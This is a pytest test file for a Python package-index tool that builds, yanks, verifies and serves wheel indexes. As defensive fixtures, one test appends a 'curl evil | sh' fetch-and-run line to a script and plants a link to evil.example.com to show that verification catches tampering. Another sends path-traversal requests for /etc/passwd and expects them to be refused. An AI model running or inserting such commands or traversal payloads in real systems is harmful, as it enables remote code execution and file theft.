"""The package index: pages to the standards, incremental and atomic updates, immutability, yank
and `factory serve`, on small real wheels written by the factory's own wheel writer."""

from __future__ import annotations

import json
import os
import random
import signal
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from packaging.utils import canonicalize_name
from pypi_simple import IndexPage, ProjectPage

from factory.index.update import update_index

from ..support.checks import present
from ..support.factory import run_factory, snapshot
from ..support.wheels import index_problems, make_wheel, parse, small_index_files


@pytest.fixture
def index_out(tmp_path: Path) -> Path:
    return small_index_files(tmp_path / "index")


def test_a_changed_published_file_is_refused_unless_forced(index_out: Path) -> None:
    update_index(index_out)
    wheel = next((index_out / "files").glob("img2gray-1.0.0+cu130torch211-*.whl"))
    pages = snapshot(index_out / "cu130torch211")
    make_wheel(index_out / "files", "img2gray", "1.0.0+cu130torch211", payload="CHANGED = 1\n")
    refused = run_factory("index", "--out", index_out)
    assert refused.exit == 1
    assert "changed after it was published" in refused.stderr and wheel.name in refused.stderr
    assert snapshot(index_out / "cu130torch211") == pages
    forced = run_factory("index", "--out", index_out, "--force")
    assert forced.exit == 0, forced.stderr
    assert index_problems(index_out) == []


def test_yank_marks_files_in_html_and_json(index_out: Path) -> None:
    update_index(index_out)
    result = run_factory("yank", "img2gray", "1.0.0", "--label", "cu130torch211",
                         "--reason", "wrong results on sm_90", "--out", index_out)
    assert result.exit == 0, result.stdout + result.stderr
    (anchor,) = parse(index_out / "cu130torch211" / "simple" / "img2gray" / "index.html").anchors
    assert anchor["data-yanked"] == "wrong results on sm_90"
    (entry,) = json.loads((index_out / "cu130torch211" / "simple" / "img2gray" / "index.json")
                          .read_text())["files"]
    assert entry["yanked"] == "wrong results on sm_90"
    (other,) = parse(index_out / "cu130torch212" / "simple" / "img2gray" / "index.html").anchors
    assert "data-yanked" not in other
    assert update_index(index_out).pages_written == 0  # the yank survives a regeneration
    missing = run_factory("yank", "img2gray", "9.9", "--reason", "x", "--out", index_out)
    assert missing.exit == 2 and "no published file of img2gray 9.9" in missing.stderr


@pytest.mark.slow
def test_killing_factory_index_never_leaves_a_broken_page(tmp_path: Path) -> None:
    """SIGKILL at random moments of `factory index`: every page a reader can see links only
    files that exist, with the right hashes; a rerun completes the index."""
    out = tmp_path / "index"
    files = out / "files"
    files.mkdir(parents=True)
    for number in range(400):
        label = f"cu130torch2{10 + number % 8}"
        make_wheel(files, f"kernel-{number % 40}", f"1.{number // 40}.0+{label}")

    def start() -> subprocess.Popen[bytes]:
        return subprocess.Popen([sys.executable, "-m", "factory", "index", "--out", str(out)],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    started = time.monotonic()
    assert start().wait() == 0
    duration = time.monotonic() - started

    generator = random.Random(7)
    interrupted = 0
    for trial in range(24):
        if trial % 2 == 0:  # from nothing: the kill lands among the first pages written
            for folder in out.iterdir():
                if folder.name != "files":
                    subprocess.run(["rm", "-rf", str(folder)], check=True)
        else:  # one more wheel: its pages and the root pages change
            make_wheel(files, f"added-{trial}", f"1.0.0+cu130torch2{10 + trial % 8}")
        process = start()
        time.sleep(generator.uniform(0.05, duration))
        if process.poll() is None:
            os.kill(process.pid, signal.SIGKILL)
            interrupted += 1
        process.wait()
        assert index_problems(out) == [], f"trial {trial}"
    assert interrupted >= 12, f"only {interrupted} of 24 runs were killed before they finished"

    assert run_factory("index", "--out", out).exit == 0
    reference = tmp_path / "reference"
    reference.mkdir()
    subprocess.run(["cp", "-a", str(files), str(reference / "files")], check=True)
    assert run_factory("index", "--out", reference).exit == 0

    def pages(root: Path) -> dict[Path, Any]:
        return {p.relative_to(root): p.read_bytes() for p in root.rglob("index.*")
                if ".factory" not in p.parts}

    assert pages(out) == pages(reference)
    assert not list(out.rglob(".*.tmp"))


@pytest.fixture
def server(index_out: Path) -> Iterator[tuple[str, Any]]:
    update_index(index_out)
    process = subprocess.Popen([sys.executable, "-m", "factory", "serve", str(index_out),
                                "--port", "0"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True)
    line = present(process.stdout).readline()
    url = line.split(" at ", 1)[1].split()[0]
    yield url, process
    process.terminate()
    process.wait()


def fetch(url: str, accept: str | None = None) -> tuple[int, dict[str, Any], bytes]:
    request = urllib.request.Request(url, headers={"Accept": accept} if accept else {})

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args: Any, **kwargs: Any) -> None:
            return None

    opener = urllib.request.build_opener(NoRedirect)
    try:
        with opener.open(request) as response:
            return response.status, dict(response.headers), response.read()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read()


def test_serve_negotiates_redirects_and_stays_inside(server: tuple[str, Any],
                                                     index_out: Path) -> None:
    url, _ = server
    status, headers, body = fetch(url + "cu130torch211/simple/img2gray/",
                                  "application/vnd.pypi.simple.v1+json")
    assert status == 200 and headers["Content-Type"] == "application/vnd.pypi.simple.v1+json"
    assert json.loads(body)["name"] == "img2gray" and headers["Vary"] == "Accept"
    status, headers, body = fetch(url + "cu130torch211/simple/img2gray/", "text/html")
    assert status == 200 and headers["Content-Type"].startswith("text/html")
    assert b"<a href=" in body
    status, headers, _ = fetch(url + "cu130torch211/simple/img2gray")
    assert status == 301 and headers["Location"] == "/cu130torch211/simple/img2gray/"
    assert fetch(url + "cu130torch211/simple/no-such-project/")[0] == 404
    for escape in ("../../etc/passwd", "%2e%2e/%2e%2e/etc/passwd", ".factory/manifest.json",
                   "files/../../../../etc/hostname"):
        assert fetch(url + escape)[0] == 404, escape
    wheel = next((index_out / "files").glob("*.whl"))
    status, headers, body = fetch(url + "files/" + wheel.name.replace("+", "%2B"))
    assert status == 200 and body == wheel.read_bytes()


def test_serve_refuses_bad_arguments(tmp_path: Path) -> None:
    missing = run_factory("serve", tmp_path / "nothing")
    assert missing.exit == 2 and "nothing: no such folder" in missing.stderr
    port = run_factory("serve", tmp_path, "--port", "99999")
    assert port.exit == 2 and "is not a port number" in port.stderr


def test_a_command_past_its_limit_fails_the_test_and_is_stopped(tmp_path: Path) -> None:
    """The tests' run_factory stops a command that runs too long (a server never returns) and
    fails the test, rather than leaving the run to CI's limit."""
    with pytest.raises(pytest.fail.Exception, match=r"factory serve .* ran past 3 s"):
        run_factory("serve", tmp_path, "--port", "0", limit=3)
    left = [entry for entry in Path("/proc").iterdir() if entry.name.isdigit()
            and str(tmp_path).encode() in _cmdline(entry)]
    assert left == []


def _cmdline(process: Path) -> bytes:
    try:
        return (process / "cmdline").read_bytes()
    except OSError:
        return b""  # gone meanwhile


def test_verify_sees_an_edited_missing_or_slipped_in_page_and_an_index_puts_them_right(
        index_out: Path) -> None:
    """A page is published too: `index --verify` renders every page, JSON document, browse
    file and script from the manifest again and compares; a full `factory index` writes them
    again (a build's update only rewrites the pages it changes)."""
    update_index(index_out)
    assert run_factory("index", "--out", index_out, "--verify").exit == 0
    page = index_out / "cu130torch211" / "simple" / "img2gray" / "index.html"
    page.write_text(page.read_text().replace("img2gray", "img2gray (use evil.example.com)"))
    (index_out / "browse.js").unlink()
    slipped = index_out / "simple" / "img2gray" / "install.html"
    slipped.write_text("<a href='https://evil.example.com/'>get it here</a>")
    doctor = index_out / "doctor.py"
    doctor.write_text(doctor.read_text() + "\nimport os; os.system('curl evil | sh')\n")
    verified = run_factory("index", "--out", index_out, "--verify")
    assert verified.exit == 1
    mismatches = sorted(line for line in verified.stdout.splitlines()
                        if line.startswith("mismatch:"))
    assert mismatches == sorted([
        f"mismatch: {page}: edited: not what the manifest gives ('factory index' writes it "
        "again)",
        f"mismatch: {index_out / 'browse.js'}: missing ('factory index' writes it again)",
        f"mismatch: {doctor}: edited: not what the manifest gives ('factory index' writes it "
        "again)",
        f"mismatch: {slipped}: no index update writes it: move it out"]), verified.stdout
    update_index(index_out, full=True)
    slipped.unlink()
    assert run_factory("index", "--out", index_out, "--verify").exit == 0


def test_pypi_simple_reads_every_page(index_out: Path) -> None:
    update_index(index_out)
    make_wheel(index_out / "files", "img2gray", "1.0.1+cu130torch211")
    yank_result = run_factory("yank", "img2gray", "1.0.1", "--reason", "broken", "--out", index_out)
    assert yank_result.exit == 0, yank_result.stderr
    pages = 0
    for simple in [index_out / "simple", *index_out.glob("*/simple")]:
        root_html = IndexPage.from_html((simple / "index.html").read_text())
        root_json = IndexPage.from_json_data(json.loads((simple / "index.json").read_text()))
        assert sorted(canonicalize_name(p) for p in root_html.projects) == sorted(
            canonicalize_name(p) for p in root_json.projects)
        for project in root_html.projects:
            folder = simple / canonicalize_name(project)
            base = f"https://host/{folder.relative_to(index_out)}/"
            from_html = ProjectPage.from_html(project, (folder / "index.html").read_bytes(), base)
            from_json = ProjectPage.from_json_data(json.loads((folder / "index.json").read_text()),
                                                   base)
            def facts(page: ProjectPage) -> list[tuple[Any, ...]]:
                return [(p.filename, p.url, p.digests, p.requires_python, p.yanked_reason,
                         p.has_metadata) for p in page.packages]

            assert facts(from_html) == facts(from_json)
            assert all(p.metadata_url.endswith(".whl.metadata") for p in from_json.packages)
            pages += 2
    assert pages == 2 * (3 + 3 + 2)  # simple and cu130torch211: 3 projects; cu130torch212: 2
    yanked = ProjectPage.from_json_data(json.loads(
        (index_out / "simple" / "img2gray" / "index.json").read_text()))
    assert [p.yanked_reason for p in yanked.packages if p.is_yanked] == ["broken"]


def test_a_site_near_its_hosts_limit_is_warned_of(index_out: Path) -> None:
    """The wheels' bytes against a static site host's limit: a warning (on stderr, exit 0)
    from 80% of it on, naming the share; none below, or with --site-limit none."""
    total = sum(path.stat().st_size for path in (index_out / "files").glob("*.whl"))
    near = run_factory("index", "--out", index_out, "--site-limit", str(int(total / 0.9)))
    assert near.exit == 0, near.stderr
    assert near.stderr.startswith(f"warning: {index_out} holds ") and "90% of the limit" \
        in near.stderr, near.stderr
    assert "serve the wheels from elsewhere" in near.stderr
    for quiet in (str(total * 2), "none", "github-pages"):
        done = run_factory("index", "--out", index_out, "--site-limit", quiet)
        assert done.exit == 0 and done.stderr == "", (quiet, done.stderr)
